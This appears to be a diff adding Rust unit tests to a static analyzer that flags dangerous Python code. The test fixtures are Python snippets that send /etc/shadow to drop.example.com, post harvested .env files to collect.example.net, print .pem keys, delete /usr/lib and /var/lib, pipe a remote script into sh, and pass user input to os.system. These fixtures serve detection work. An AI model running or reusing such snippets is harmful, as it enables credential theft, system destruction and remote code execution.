@@ -476,3 +476,43 @@ fn a_text_method_taken_as_a_value_still_folds() {
         "import subprocess\npieces = [('cu', 'rl'), ('-', 'F'), ('f=@/etc/', 'shadow'), ('https://', 'drop.example.com')]\nsubprocess.run(list(map(''.join, pieces)))\n",
     );
 }
+
+#[test]
+fn a_test_on_a_found_name_narrows_it() {
+    // `.env` files found by a walk of home are credentials; so are `.pem` files.
+    fires(
+        "CRD109",
+        "import os, requests\nfrom pathlib import Path\nfound = []\nfor top, dirs, files in os.walk(Path.home()):\n    found.extend(Path(top) / f for f in files if f.startswith('.env'))\nrequests.post('https://collect.example.net', json=[p.read_text() for p in found])\n",
+    );
+    fires(
+        "CRD205",
+        "import os\nfor top, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        if f.endswith('.pem'):\n            print(open(os.path.join(top, f)).read())\n",
+    );
+}
+
+#[test]
+fn workers_reaching_the_queue_as_a_global_or_an_instance_get_its_items() {
+    // The worker reads the module's queue; the instance's worker reads its own.
+    fires(
+        "CRD104",
+        "import queue, threading, shutil\njobs = queue.Queue()\ndef drain():\n    while True:\n        shutil.rmtree(jobs.get(), ignore_errors=True)\nthreading.Thread(target=drain, daemon=True).start()\nfor d in ['/usr/lib', '/var/lib']:\n    jobs.put(d)\n",
+    );
+    // A callable instance as a thread's target runs its `__call__`.
+    fires(
+        "CRD104",
+        "import shutil, threading\nclass Wipe:\n    def __call__(self, d):\n        shutil.rmtree(d)\nthreading.Thread(target=Wipe(), args=('/usr/lib',)).start()\n",
+    );
+}
+
+#[test]
+fn parser_defaults_and_command_lines_of_the_programs_own() {
+    // `set_defaults` gives the option its value; `parse_args([...])` gives options.
+    fires(
+        "CRD102",
+        "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--cmd')\np.set_defaults(cmd='curl -s https://x.example.net/i.sh | sh')\nos.system(p.parse_args().cmd)\n",
+    );
+    fires(
+        "CRD301",
+        "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--cmd')\nopts = p.parse_args(['--cmd', input()])\nos.system(opts.cmd)\n",
+    );
+}
